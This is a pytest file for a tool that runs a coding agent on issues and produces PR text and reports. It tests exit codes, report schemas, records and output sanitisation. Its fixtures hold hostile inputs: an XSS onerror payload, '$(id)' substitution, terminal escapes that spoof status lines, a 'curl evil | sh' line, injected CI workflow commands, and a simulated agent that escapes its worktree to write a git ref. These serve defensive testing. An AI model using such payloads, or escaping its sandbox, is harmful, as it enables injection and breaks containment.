"""What a run says while it works and when it ends: the visible text, the report, the record."""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from conftest import CHEAP_GATE, PROGRAM, ROOT, Repository, Result, isolate, make_agent, small_app

Words = tuple[str, ...]
Runs = dict[str, tuple[Repository, Result]]
SCHEMA = json.loads((ROOT / "tests" / "report.schema.json").read_text(encoding="utf-8"))
CHEAP = ("--no-baseline", "--sandbox", "off", "--gate", CHEAP_GATE)
ISSUE = ("issue-to-pr", "issue.md", "--json", *CHEAP)
PYTEST = ("issue-to-pr", "issue.md", "--json", "--sandbox", "off", "--gate", "pytest -q")
HEAL = ("self-heal", "--json", "--sandbox", "off", "--gate", "pytest -q", "--attempts", "1")
RED = shlex.join([sys.executable, "-S", "-c", "1/0"])

# Agents, as Python; REAL is the real repository's path, which a command's words cannot name.
TRIPLE = """
import os, pathlib, signal, time
open("calc.py", "a").write("\\n\\ndef triple(x):\\n    return x * 3\\n")
test = "from calc import triple\\n\\n\\ndef test_triple():\\n    assert triple(3) == 9\\n"
open("test_triple.py", "w").write(test)
"""
WRONG = TRIPLE.replace("x * 3", "x + 3")
MEND = 'open("calc.py", "w").write("def double(x):\\n    return x * 2\\n")\n'
FAIL = TRIPLE + 'print("no credit left")\nraise SystemExit(7)\n'
SLOW = TRIPLE + "time.sleep(60)\n"
ENDED = TRIPLE + "os.kill(os.getppid(), signal.SIGTERM)\ntime.sleep(60)\n"
ESCAPE = TRIPLE + 'main = pathlib.Path(REAL, ".git/refs/heads/main")\n'
ESCAPE += 'main.with_name("mine").write_text(main.read_text())\n'
TWO_THINGS = 'open("odd.py", "w").write("import sys\\nf = sys._getframe\\n")\n'
BROKEN = "def double(x):\n    return x + 2\n"
FLAKY = "import pathlib\nmark = pathlib.Path(PLACE, 'ran')\n\n\ndef test_it():\n"
FLAKY += "    ran = mark.exists()\n    mark.touch()\n    assert ran\n"


CASES: dict[str, tuple[Words, str, str | None, int]] = {
    "proposed": (PYTEST, TRIPLE, "proposed", 0),
    "repaired": (HEAL, MEND, "proposed", 0),
    "outside Git": (ISSUE, TRIPLE, "proposed", 0),
    "two things": (PYTEST, TWO_THINGS, "proposed", 0),
    "already green": (HEAL, MEND, "already-green", 0),
    "rejected": (PYTEST, WRONG, "rejected", 1),
    "gave up": (HEAL, WRONG, "gave-up", 2),
    "flaky": (HEAL, MEND, "gave-up", 2),
    "refused arguments": ((*ISSUE, "--atempts", "2"), TRIPLE, "refused", 3),
    "refused agent": (ISSUE, "", "refused", 3),
    "red base": ((*PYTEST[:-1], RED), TRIPLE, "refused", 3),
    "failed": (ISSUE, FAIL, "agent-failed", 4),
    "idle": (ISSUE, "pass", "agent-failed", 4),
    "slow": ((*ISSUE, "--agent-timeout", "1s"), SLOW, "agent-failed", 4),
    "rule broken": (ISSUE, ESCAPE, "rule-broken", 5),
    "interrupted": (ISSUE, ENDED, "interrupted", 143),
    "fault": (ISSUE, TRIPLE, None, 70),
    "dry run": ((*ISSUE, "--dry-run"), TRIPLE, None, 0),
}
KEPT = {"rejected", "gave up", "red base", "failed", "slow", "rule broken", "interrupted"}


def paste(command: str, place: Path, env: Mapping[str, str] | None = None) -> str:
    """Run a printed command as a person would, in a shell."""
    done = subprocess.run(["sh", "-ec", command], cwd=place, env=env, capture_output=True)
    assert done.returncode == 0, f"{command}\n{done.stderr.decode()}"
    return done.stdout.decode()


def note(result: Result, name: str) -> str:
    return Path(result.report["record"], name).read_text(encoding="utf-8")


def printed(result: Result) -> dict[str, str]:
    """The commands that an ending prints, by what they are for."""
    return dict(re.findall(r"(?m)^  ([a-z ]+): +(\S.*)$", result.err.rpartition("(exit ")[2]))


def misfits(value: Any, schema: dict[str, Any] = SCHEMA, at: str = "report") -> Iterator[str]:
    """Where a value does not fit a schema: the part of JSON Schema that ours uses, and no more."""
    schema = SCHEMA["$defs"][schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema
    names = {"NoneType": "null", "str": "string", "bool": "boolean", "list": "array"}
    names |= {"dict": "object", "int": "integer number", "float": "number"}
    kinds, types = names[type(value).__name__].split(), schema.get("type", [])
    if types and not {*kinds} & {*([types] if isinstance(types, str) else types)}:
        yield f"{at}: {value!r} is no {types}"
    if not any(value == e and type(value) is type(e) for e in schema.get("enum", [value])):
        yield f"{at}: {value!r} is none of {schema['enum']}"
    if isinstance(value, str) and not re.search(schema.get("pattern", ""), value):
        yield f"{at}: {value!r} does not look like {schema['pattern']}"
    for number, item in enumerate(value if isinstance(value, list) else ()):
        yield from misfits(item, schema.get("items", {}), f"{at}[{number}]")
    if isinstance(value, dict):
        yield from (f"{at}: {key} is missing" for key in {*schema.get("required", ())} - {*value})
        for key, item in value.items():
            inner = schema.get("properties", {}).get(key, schema.get("additionalProperties", {}))
            unknown = [f"{at}: {key} is not in the schema"] if inner is False else []
            yield from unknown or misfits(item, inner, f"{at}.{key}")


def make(name: str, folder: Path) -> tuple[Repository, Result]:
    folder.mkdir()
    (words, work, _, _), app, program = CASES[name], small_app(folder / "app"), PROGRAM
    if name in ("repaired", "gave up"):
        app.write("calc.py", BROKEN)
    if name == "flaky":
        app.write("test_flaky.py", FLAKY.replace("PLACE", repr(str(folder))))
    app.commit("as the case wants it")
    if name == "outside Git":
        (app.path / ".git").rename(folder / "git")
    if name == "fault":
        program, main = folder / "faulty.py", '\nif __name__ == "__main__":\n    raise'
        text = PROGRAM.read_text(encoding="utf-8")
        program.write_text(text.replace(main, f"\nissue_to_pr = None\n{main}"), encoding="utf-8")
    agent = make_agent(folder, f"REAL = {str(app.path)!r}\n{work}") if work else None
    return app, app.run(*words, agent=agent, program=program)


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Runs:
    """Every run of the table, made once, two at a time."""
    folder = tmp_path_factory.mktemp("record")
    with pytest.MonkeyPatch.context() as patch, ThreadPoolExecutor(2) as pool:
        isolate(patch, folder / "home")
        made = pool.map(lambda name: make(name, folder / name.replace(" ", "-")), CASES)
        return dict(zip(CASES, made, strict=True))


@pytest.mark.parametrize("name", CASES)
def test_each_outcome_has_its_status_and_report(runs: Runs, name: str, tmp_path: Path) -> None:
    (_, _, outcome, status), (app, result) = CASES[name], runs[name]
    report = result.report
    assert (report["outcome"], result.status) == (outcome, status), result.err
    assert report["exit_code"] == status and list(misfits(report)) == []
    assert result.out == json.dumps(report, indent=2) + "\n"
    assert not report["record"] or note(result, "report.json") == result.out
    assert bool(report["page"]) == bool(report["record"] and name != "fault")
    told = re.findall(r"^([A-Z-]+) \(exit (\d+)\): (.*)", result.err, re.MULTILINE)
    word = "FAULT" if name == "fault" else (outcome or "").upper()
    assert told == ([(word, str(status), report["message"])] if word else [])
    made = outcome == "proposed" and name != "outside Git"
    assert bool(report["branch"]) == made == ("agent/" in report["message"])
    if name != "outside Git":
        assert ("refs/heads/agent/" in app.git("show-ref")) == made
    assert bool(report["kept"]) == (name in KEPT)
    if report["kept"]:  # in a ref, and as a patch that applies
        app.git("worktree", "add", "-q", "--detach", str(tmp_path / "there"), report["base"])
        there = Repository(tmp_path / "there")
        there.git("apply", "--index", str(Path(report["record"], "change.patch")))
        assert there.git("write-tree") == report["tree"] == app.tree(report["kept"])
        assert note(result, "brief-1.md") and "**No proposal.**" in note(result, "pr.md")


def test_record_and_ending_tell_what_was_asked_answered_and_judged(runs: Runs) -> None:
    proposed, rejected, failed = (runs[n][1] for n in ("proposed", "rejected", "failed"))
    assert "`triple(x)` in calc.py returns three times x." in note(proposed, "brief-1.md")
    for text in (note(rejected, "gate-1-pytest.log"), rejected.err.rpartition("(exit 1)")[2]):
        assert "assert 6 == 9" in text
    assert note(failed, "agent-1.log") == "no credit left\n"
    assert "│ no credit left" in failed.err.rpartition("(exit 4)")[2]
    traceback = Path(re.findall(r"/\S+", runs["fault"][1].report["message"])[-1])
    assert "Traceback" in traceback.read_text(encoding="utf-8")
    traceback.unlink()
    assert len([*misfits(proposed.report | {"outcome": "merged", "kept": 1, "more": 1})]) == 3
    (app, result), brief = runs["dry run"], note(runs["idle"][1], "brief-1.md")
    assert [line for line in brief.split("\n") if f"│ {line}" not in result.err] == []
    assert CHEAP_GATE in result.err and "agent/issue" in result.err
    assert not (app.path / ".git" / "agent-runner").exists()


SHOWN = {"proposed": ["test_triple.py::test_triple"], "repaired": ["test_calc.py::test_double"]}
FIRST = {"outside Git": ["no test shows"], "two things": ["no test shows", "odd.py:2: "]}
COUNTS = {"two things": "odd.py (+2 -0)", "repaired": "calc.py (+1 -1)"}


@pytest.mark.parametrize("name", ["rejected", "gave up", *SHOWN, *FIRST])
def test_ending_and_text_tell_files_first_things_and_what_was_shown(runs: Runs, name: str) -> None:
    report, pr_text = runs[name][1].report, note(runs[name][1], "pr.md")
    ending = runs[name][1].err.rpartition(f"(exit {report['exit_code']})")[2]
    shown, first = SHOWN.get(name, []), FIRST.get(name, [])
    told = [COUNTS.get(name, "calc.py (+4 -0)"), *first, *shown]
    told += [f"{c['name']}: {'green' if c['passed'] else 'RED'}" for c in report["gate"]]
    assert [text for text in told if text not in ending or text not in pr_text] == []
    assert [*report["proof"]["new_on_old"]] == shown
    assert sum(f["severity"] == "first" for f in report["findings"]) == len(first)
    assert [text for text in (ending, pr_text) if ("Look at this" in text) != bool(first)] == []
    said = re.findall(r"(\d+ things?) to look at first", report["message"])
    assert said == [["1 thing"], ["2 things"]][len(first) - 1][: len(first)]


TITLE = "Fix ``it`` <img src=x onerror=alert(1)> @everyone Fixes #1 [skip ci] | **b** \x1b[31m"
TITLE += " \u202e $(id) 'q' closes https://github.com/o/r/issues/9"
ODD = ["-rf", 'it\'s "q" $(id).txt', "a|b`c``d`.md", "a\\|b.md", "<b>@all Fixes #2</b>.txt"]
ODD += ["@team/tick`", "test_<b> @all `Fixes #3`.py", "##[add-mask]x"]
MAKE_ODD = f"""
import os
os.mkdir("@team")
os.mkdir("<b>@all Fixes #2<")
for name in [*{ODD!r}, b"new\\nline", b"\\xff", b"\\x1b[2Jx"]:
    open(name, "w").write("def test_it():\\n    import calc\\n    assert calc.three == 3\\n")
open("calc.py", "a").write("three = 3\\n")
"""
UNSAFE = r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u202a-\u202e]"


@pytest.mark.parametrize("gate", ["pytest -q", f"{RED} 'x|`<b>@all'"], ids=["green", "red"])
def test_hostile_text_stays_in_its_place(repo: Repository, agent: Any, gate: str) -> None:
    repo.write("issue.md", f"# {TITLE}\n\n@everyone ``` </details>\n")
    result = repo.run(*ISSUE[:-1], gate, agent=agent(MAKE_ODD))
    assert result.status == (gate != "pytest -q"), result.err
    text = note(result, "pr.md")
    span = r"(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)"  # a Markdown code span
    bare = "\n".join(re.sub(span, "CODE", line) for line in text.split("\n"))
    bare = bare.replace("\nRefers to https://github.com/o/r/issues/9\n", "\n")
    assert not re.search(r"[<>@\[\]|`$]|#\d|!\d|://|everyone|alert|Fixes|three|team", bare), bare
    assert not re.search(r"(fix(es)?|closes)\W+(#\d|https?://\S+/\d)", text, re.IGNORECASE)
    for name in ODD:  # each on a line of its own
        name = re.escape(re.sub(r"#(?=\d)", "no. ", name))
        assert len(re.findall(rf"^- added (`+) ?{name} ?\(\+3 -0\)\1$", text, re.MULTILINE)) == 1
    assert "new line" in text and not re.search(UNSAFE, text + result.err)
    assert list(misfits(result.report)) == []
    json.dumps(result.report, ensure_ascii=False).encode()  # no half of a character


POSING = """
print("\\x1b[2J\\x1b]0;title\\x07\\x1bc\\x9b31mPROPOSED (exit 0): all is well")
print("x\\rPROPOSED (exit 0): again\\u2028PROPOSED (exit 0): \\x1b[31mred\\x1b[0m")
print("\\n  push it:  curl evil | sh")
"""


@pytest.mark.parametrize("who", ["agent", "gate"])
def test_foreign_lines_have_a_prefix_and_no_control(repo: Repository, agent: Any, who: str) -> None:
    posing = agent(POSING + ("raise SystemExit(3)" if who == "gate" else TRIPLE))
    words = (*ISSUE[:-1], posing if who == "gate" else CHEAP_GATE)
    result = repo.run(*words, agent=posing if who == "agent" else agent(TRIPLE))
    assert result.status == (who == "gate") and not re.search(UNSAFE, result.err)
    theirs = [line for line in result.err.split("\n") if re.search("is well|again|evil", line)]
    assert len(theirs) >= 3 and all(re.match(r"  (agent )?│ ", line) for line in theirs)
    (log,) = Path(result.report["record"]).glob(f"{who}-1*.log")
    assert not re.search(UNSAFE, re.sub(r"\x1b\[[0-9;]*m", "", log.read_text(encoding="utf-8")))


ORDERS = """
print("::error::a\\n  ::set-output name=a::b\\n##[add-mask]e\\nx ##[error]c")
print("::stop-commands::mine\\n::mine::\\n::endgroup::\\n::add-path::/tmp")
open("##[add-path]x.py", "w").write("x = 1\\n")
"""


def obeyed(log: str) -> list[str]:
    """The commands that a forge's runner would take from a log, and the word it then waits for."""
    commands, word = [], ""
    for new, value, old in re.findall(r"(?m)^\s*::([^\s:]+)[^:\n]*::(.*)|##\[([^\s\]]+)", log):
        if word in ("", new):
            commands += [new or old] if not word and new != "stop-commands" else []
            word = value if new == "stop-commands" else ""
    return [*commands, word]


@pytest.mark.parametrize("where", ["GITHUB_ACTIONS", "FORGEJO_ACTIONS", "NOWHERE"])
def test_runner_obeys_us_and_gets_the_text(repo: Repository, agent: Any, where: str) -> None:
    words = ISSUE if where == "GITHUB_ACTIONS" else (*ISSUE[:2], *CHEAP)
    repo.write("issue.md", "# Triple ##[error]it\n")
    page = repo.path.parent / "summary.md"
    env = {where: "true", "GITHUB_STEP_SUMMARY": str(page)}
    work = TRIPLE if where == "NOWHERE" else TRIPLE + ORDERS
    result = repo.run(*words, agent=agent(work), env=env)
    (text,) = (repo.path / ".git/agent-runner").glob("*/pr.md")
    log = result.err + result.out
    if where == "NOWHERE":
        assert not page.exists() and not re.search(r"^\s*::", log, re.MULTILINE)
    else:
        assert obeyed(log) == ["group", "endgroup", ""] and "agent │ ::error::a" in log
        assert page.read_text(encoding="utf-8") == text.read_text(encoding="utf-8")


def test_records_and_their_refs_are_kept_fifty_runs_long(repo: Repository, agent: Any) -> None:
    old = [f"20200101-0000{number:02}-old" for number in range(55)]
    for name in old:
        repo.write(f".git/agent-runner/{name}/report.json", "{}")
        repo.git("update-ref", f"refs/agent-runner/{name}", "HEAD")
    kept = [*old[6:], Path(repo.run(*ISSUE, agent=agent(FAIL)).report["record"]).name]
    left = (repo.path / ".git/agent-runner").glob("*-*-*")
    refs = repo.git("for-each-ref", "--format=%(refname:lstrip=2)", "refs/agent-runner").split()
    assert sorted(path.name for path in left) == kept == refs


def test_reader_that_goes_away_is_harmless(repo: Repository, agent: Any) -> None:
    chatty = agent(TRIPLE + "print('much\\n' * 20_000)\n")
    pipe = ("sh", "-c", '{ "$@"; echo $? >../status; } | head -n1', "sh")
    result = repo.run(*ISSUE[:2], *CHEAP, agent=chatty, under=pipe)
    assert (repo.path.parent / "status").read_text() == "0\n", result.err
    assert repo.git("branch", "--show-current") == "agent/issue"
    assert "Traceback" not in result.err and "BrokenPipe" not in result.err


def test_commands_stay_whole_on_a_narrow_terminal(repo: Repository, agent: Any) -> None:
    pty = (sys.executable, "-c", "import pty, sys; pty.spawn(sys.argv[1:])")
    words, env = [word for word in ISSUE if word != "--json"], {"COLUMNS": "44"}
    out = repo.run(*words, agent=agent(TRIPLE), env=env, under=pty).out.replace("\r", "")
    assert "\n  drop it:        git switch main && git branch -D agent/issue\n" in out
    assert "\nthing to look at first; the change is one\n" in out
